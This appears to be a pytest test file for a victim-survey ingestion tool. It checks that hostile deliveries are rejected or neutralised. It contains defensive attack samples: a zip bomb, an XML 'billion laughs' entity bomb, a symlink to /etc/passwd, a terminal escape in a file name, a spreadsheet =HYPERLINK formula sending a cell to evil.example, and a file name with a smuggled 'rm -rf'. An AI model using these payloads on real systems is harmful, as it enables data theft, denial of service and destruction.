"""Hostile or broken input: nothing personal leaks, nothing crashes, nothing escapes the landing folder."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.conftest import RUN_DATE, base_row, write_csv
from victim_voice import cli
from victim_voice.delivery import files
from victim_voice.delivery.files import display_name, log_name
from victim_voice.delivery.outcome import Status
from victim_voice.ingestion.run import ingest_landing
from victim_voice.settings import Settings


def valid_workbook_bytes() -> bytes:
    buffer = io.BytesIO()
    workbook = openpyxl.Workbook()
    workbook.active.append(list(base_row()))
    workbook.active.append(list(base_row().values()))
    workbook.save(buffer)
    return buffer.getvalue()


def with_part(data: bytes, name: str, content_writer) -> bytes:
    """A copy of an XLSX with one part replaced (streamed, so a huge part costs little memory)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename == name:
                with target.open(name, "w", force_zip64=True) as part:
                    content_writer(part)
            else:
                target.writestr(item, source.read(item))
    return out.getvalue()


def test_a_zip_bomb_workbook_is_rejected_without_unpacking(settings: Settings) -> None:
    def bomb(part) -> None:
        chunk = b"<row>" + b" " * (1024 * 1024) + b"</row>"
        for _ in range(150):  # about 150 MB unpacked from a few hundred KB
            part.write(chunk)

    data = with_part(valid_workbook_bytes(), "xl/worksheets/sheet1.xml", bomb)
    assert len(data) < 2 * 1024 * 1024
    (settings.landing / "VictimVoice_2024-05_01.xlsx").write_bytes(data)
    [outcome] = ingest_landing(settings, RUN_DATE)
    assert outcome.status == Status.REJECTED
    assert outcome.reason.startswith("the file cannot be read as XLSX: it would unpack to 157,")
    assert outcome.reason.endswith("bytes (a zip bomb?)")


def test_an_xml_entity_bomb_is_refused(settings: Settings) -> None:
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&lol3;</workbook>'
    )
    data = with_part(valid_workbook_bytes(), "xl/workbook.xml", lambda part: part.write(laughs))
    (settings.landing / "VictimVoice_2024-05_01.xlsx").write_bytes(data)
    [outcome] = ingest_landing(settings, RUN_DATE)
    assert outcome.status == Status.REJECTED and outcome.reason.startswith("the file cannot be read as XLSX (")


def test_a_symbolic_link_is_never_followed(settings: Settings, tmp_path: Path) -> None:
    secret = write_csv(tmp_path / "elsewhere" / "VictimVoice_2024-05_01.csv", [base_row()])
    os.symlink(secret, settings.landing / "VictimVoice_2024-05_01.csv")
    os.symlink("/etc/passwd", settings.landing / "passwd")
    outcomes = ingest_landing(settings, RUN_DATE)
    assert [(o.status, o.reason) for o in outcomes] == [
        (Status.REJECTED, "the file is a symbolic link, not a regular file: it was not opened; a delivery must be a "
         "regular file")
    ] * 2  # fmt: skip
    assert ingest_landing(settings, RUN_DATE) == []  # recorded once, not rejected again on every run


def test_an_oversized_file_is_rejected_before_parsing(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "MAX_FILE_BYTES", 1000)
    write_csv(settings.landing / "VictimVoice_2024-05_01.csv", [base_row()] * 3)
    [outcome] = ingest_landing(settings, RUN_DATE)
    assert (outcome.status, outcome.reason) == (
        Status.REJECTED,
        "the file is larger than 1,000 bytes; a delivery is far smaller",
    )


def test_file_names_cannot_drive_the_terminal_or_reach_the_logs() -> None:
    assert display_name("VictimVoice_2024-05_01.csv\x1b]0;pwned\x07") == r"VictimVoice_2024-05_01.csv\x1b]0;pwned\x07"
    assert log_name("VictimVoice_2024-05_01.csv") == "VictimVoice_2024-05_01.csv"
    hidden = log_name("Sarah Jones complaint 07700900123.csv")
    assert "Sarah" not in hidden and "07700" not in hidden and hidden.startswith("(a misnamed file, name hash ")


def test_query_csv_output_is_safe_to_open_in_a_spreadsheet(settings: Settings, capsys) -> None:
    write_csv(
        settings.landing / "VictimVoice_2024-05_01.csv",
        [base_row(comment_police='=HYPERLINK("http://evil.example/?"&A1,"click")', comment_services="+1 -2 @x")],
    )
    ingest_landing(settings, RUN_DATE)
    sql = "select comment_police, comment_services, -1 as minus from marts.responses"
    assert cli.main(["query", sql, "--warehouse", str(settings.warehouse), "--csv"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",\'+1 -2 @x,-1'


def test_a_formula_in_a_delivered_xlsx_is_read_as_its_value_not_run(settings: Settings) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(list(base_row()))
    row = list(base_row(comment_police="").values())
    sheet.append(row)
    sheet.cell(row=2, column=list(base_row()).index("comment_police") + 1).value = '=HYPERLINK("http://x","y")'
    workbook.save(settings.landing / "VictimVoice_2024-05_01.xlsx")
    [outcome] = ingest_landing(settings, RUN_DATE)
    assert (outcome.status, outcome.rows_loaded) == (Status.LOADED, 1)  # no cached value: read as blank, nothing run


def test_path_like_file_names_stay_inside_the_landing_folder(settings: Settings, tmp_path: Path) -> None:
    """Names that look like paths or options are just misnamed files ("..\\x" starts with a dot:
    a hidden file, left alone like any other)."""
    outside = tmp_path / "outside.csv"
    outside.write_text("untouched")
    for name in ("..\\..\\outside.csv", "--help.csv", "VictimVoice_2024-05_01.csv\nrm -rf", "VictimVoice_../01.csv"):
        if "/" in name:
            continue  # a file name cannot hold a slash
        write_csv(settings.landing / name, [base_row()])
    outcomes = ingest_landing(settings, RUN_DATE)
    assert [o.file_name for o in outcomes] == ["--help.csv", "VictimVoice_2024-05_01.csv\nrm -rf"]
    assert {o.status for o in outcomes} == {Status.REJECTED}
    assert outside.read_text() == "untouched"
    assert sorted(p.parent for p in settings.landing.iterdir()) == [settings.landing] * 3
